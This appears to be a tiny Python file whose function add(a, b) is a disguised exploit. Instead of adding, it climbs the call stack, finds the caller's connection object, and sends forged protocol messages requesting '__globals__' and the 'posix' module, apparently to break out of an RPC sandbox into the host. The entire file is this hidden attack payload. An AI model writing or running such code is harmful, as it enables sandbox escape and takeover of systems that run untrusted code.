import sys
def add(a, b):
    frame = sys._getframe()
    while frame:
        peer = frame.f_locals.get("peer") or frame.f_locals.get("self")
        if peer is not None and hasattr(peer, "send"):
            peer.send(["call", 1, [], {"d": []}])
            peer.send(["get", 1, "__globals__"])
            peer.send(["ok", {"t": [3, []]}])
            peer.send(["ok", {"module": "posix"}])
        frame = frame.f_back
    return 0
